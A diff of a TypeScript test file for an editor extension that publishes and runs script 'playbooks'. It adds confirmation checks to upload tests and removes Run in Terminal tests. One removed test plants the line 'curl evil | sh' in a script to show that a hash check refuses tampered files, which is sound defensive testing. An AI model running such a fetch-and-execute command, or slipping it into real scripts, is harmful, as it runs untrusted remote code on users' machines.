@@ -4,20 +4,24 @@ import * as path from 'node:path';
 import { test } from 'node:test';
 import { PUBLISH_CHOICES, publishCommand, publishFlow } from '../../../src/extension/commands/publish';
 import { resolveScriptCommand, resolveScriptFlow } from '../../../src/extension/commands/resolve-script';
-import { RESTRICTED_MODE_MESSAGE, runInTerminalFlow } from '../../../src/extension/commands/run-in-terminal';
 import { showSyncStatusFlow, syncNowFlow } from '../../../src/extension/commands/sync';
-import { IntegrityError } from '../../../src/core/shared/errors';
-import { sha256 } from '../../../src/core/shared/hash';
 import { LIBRARY_PLAYBOOK } from '../../e2e/harness/fixtures';
 import { TEST_TENANT, TEST_TOKEN } from '../../helpers/dev-server';
 import { commandEnv } from '../helpers/command-env';
 import { libraryServer as server } from '../helpers/library-server';
 
-test('Upload for Review publishes to the server and moves the playbook to Synced; the status shows it', async (t) => {
+test('Upload for Review says what goes where, then publishes to the server and moves the playbook to Synced; the status shows it', async (t) => {
   const s = await server(t);
-  const { svc, ui, ctx } = await commandEnv(t, { serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
+  const { svc, ui, ctx } = await commandEnv(t, { answers: [true], serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
   await svc.store.createPlaybook({ name: 'Weekend RDS shutdown', description: 'Stops RDS on Friday', scripts: [{ path: 'shell/stop.sh', content: 'echo stop\n' }] });
   assert.equal(await publishFlow(ctx, { playbookId: 'weekend-rds-shutdown' }, 'uploaded_for_review'), 'published');
+  assert.deepEqual(ui.confirms, [
+    {
+      message: `Upload for Review: "Weekend RDS shutdown" v1.0.0 to tenant "${TEST_TENANT}" at ${s.url}?`,
+      detail: '1 script and the metadata go to your tenant. A reviewer approves it before others run it. The playbook moves from Local to Synced.',
+      button: 'Upload for Review',
+    },
+  ]);
   const pb = await svc.store.getPlaybook('weekend-rds-shutdown');
   assert.deepEqual([pb.area, pb.metadata.version, pb.metadata.storage_strategy], ['synced', '1.0.1', 'uploaded_for_review']);
   assert.match(ui.messages.at(-1)?.text ?? '', /Published "Weekend RDS shutdown" v1\.0\.1 for review: it is now in Synced\. It is waiting for review\./);
@@ -41,9 +45,19 @@ test('the publish choice offers exactly Keep Private / Upload for Review / Uploa
   assert.equal((await s.api.getRecord('rotate-keys'))?.versions['1.0.1']?.review_status, 'approved');
 });
 
+test('a code lens upload declined at its confirmation sends nothing and moves nothing', async (t) => {
+  const s = await server(t);
+  const { svc, ctx } = await commandEnv(t, { answers: [false], serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
+  await svc.store.createPlaybook({ name: 'Rotate keys', description: 'x' });
+  s.server.resetRequests();
+  assert.equal(await publishFlow(ctx, { playbookId: 'rotate-keys', version: '1.0.0', area: 'local' }, 'uploaded_trusted'), 'cancelled');
+  assert.deepEqual(s.server.requests(), []);
+  assert.equal((await svc.store.getPlaybook('rotate-keys')).area, 'local');
+});
+
 test('publishing with a wrong token fails with the typed AUTH error (the UI offers Sign In) and moves nothing', async (t) => {
   const s = await server(t);
-  const { svc, ctx } = await commandEnv(t, { serverUrl: s.url, tenantId: TEST_TENANT, token: 'not-the-token' });
+  const { svc, ctx } = await commandEnv(t, { answers: [true], serverUrl: s.url, tenantId: TEST_TENANT, token: 'not-the-token' });
   await svc.store.createPlaybook({ name: 'Rotate keys', description: 'x' });
   await assert.rejects(publishFlow(ctx, { playbookId: 'rotate-keys' }, 'uploaded_for_review'), (e: Error & { code?: string }) => e.code === 'AUTH');
   assert.equal((await svc.store.getPlaybook('rotate-keys')).area, 'local');
@@ -66,41 +80,9 @@ test('Resolve Script refuses a malformed id in the input box', async (t) => {
   assert.deepEqual(ui.validation, ['ids are lower-case letters, digits and single hyphens']);
 });
 
-test('Run in Terminal: refused in Restricted Mode before anything resolves; otherwise only after the confirmation', async (t) => {
-  const { svc, ui, ctx } = await commandEnv(t, { answers: [false, true] });
-  await svc.store.createPlaybook({ name: "Ops' backup", description: 'x', scripts: [{ path: 'shell/backup.sh', content: 'echo backing up {{bucket}}\n' }] });
-
-  ui.trusted = false;
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'refused');
-  assert.deepEqual(ui.messages.at(-1), { level: 'error', text: RESTRICTED_MODE_MESSAGE });
-  assert.equal(ui.confirms.length, 0, 'nothing was resolved or offered');
-
-  ui.trusted = true;
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'cancelled');
-  assert.equal(ui.terminals.length, 0, 'Cancel runs nothing');
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'ran');
-  const [run] = ui.terminals;
-  const file = path.join(svc.config.playbooksDir, 'local', 'ops-backup', 'v1.0.0', 'shell', 'backup.sh');
-  assert.deepEqual(run, { name: 'Escher: ops-backup', cwd: path.dirname(file), commandLine: `bash ${file}` });
-  const shown = ui.confirms[1];
-  assert.match(shown?.message ?? '', /Run ops-backup v1\.0\.0 \(shell\) in a terminal\?/);
-  assert.match(shown?.detail ?? '', new RegExp(`Command: bash ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
-  assert.match(shown?.detail ?? '', new RegExp(`SHA-256: ${sha256('echo backing up {{bucket}}\n')} \\(computed now, matches metadata.json; local\\)`));
-  assert.match(shown?.detail ?? '', /Placeholders not filled in: \{\{bucket\}\}/);
-});
-
-test('Run in Terminal refuses a script edited since it was saved: no confirmation showing the recorded hash, no terminal', async (t) => {
-  const { svc, ui, ctx } = await commandEnv(t, { answers: [true] });
-  const p = await svc.store.createPlaybook({ name: 'Ops backup', description: 'x', scripts: [{ path: 'shell/backup.sh', content: 'echo backing up\n' }] });
-  await fs.writeFile(path.join(p.dir, 'shell', 'backup.sh'), 'curl evil | sh\n');
-  await assert.rejects(runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), (e: unknown) => e instanceof IntegrityError && e.message.includes(sha256('curl evil | sh\n')));
-  assert.equal(ui.confirms.length, 0, 'no confirmation was offered');
-  assert.equal(ui.terminals.length, 0, 'nothing ran');
-});
-
 test('Upload for Review from the palette takes the metadata.json in the editor, and shows the synced one in its place', async (t) => {
   const s = await server(t);
-  const { svc, ui, ctx } = await commandEnv(t, { serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
+  const { svc, ui, ctx } = await commandEnv(t, { answers: [true], serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
   const local = await svc.store.createPlaybook({ name: 'Weekend RDS shutdown', description: 'Stops RDS on Friday' });
   await svc.store.createPlaybook({ name: 'Rotate keys', description: 'x' });
   ui.editor = { path: path.join(local.dir, 'metadata.json'), languageId: 'json', text: '{}', dirty: false };
@@ -115,7 +97,7 @@ test('Upload for Review from the palette takes the metadata.json in the editor, 
 
 test('an editor with unsaved edits is not closed after publishing (closing would prompt); the synced file opens beside it', async (t) => {
   const s = await server(t);
-  const { svc, ui, ctx } = await commandEnv(t, { serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
+  const { svc, ui, ctx } = await commandEnv(t, { answers: [true], serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
   const local = await svc.store.createPlaybook({ name: 'Weekend RDS shutdown', description: 'Stops RDS on Friday' });
   ui.editor = { path: path.join(local.dir, 'metadata.json'), languageId: 'json', text: '{"edited": true}', dirty: true };
   assert.equal(await publishCommand(ctx, { playbookId: 'weekend-rds-shutdown' }, 'uploaded_trusted'), 'published');
@@ -125,7 +107,7 @@ test('an editor with unsaved edits is not closed after publishing (closing would
 
 test('publishing another playbook than the one in the editor leaves the editor alone', async (t) => {
   const s = await server(t);
-  const { svc, ui, ctx } = await commandEnv(t, { serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
+  const { svc, ui, ctx } = await commandEnv(t, { answers: [true], serverUrl: s.url, tenantId: TEST_TENANT, token: TEST_TOKEN });
   const open = await svc.store.createPlaybook({ name: 'Weekend RDS shutdown', description: 'Stops RDS on Friday' });
   await svc.store.createPlaybook({ name: 'Rotate keys', description: 'x' });
   ui.editor = { path: path.join(open.dir, 'metadata.json'), languageId: 'json', text: '{}', dirty: false };
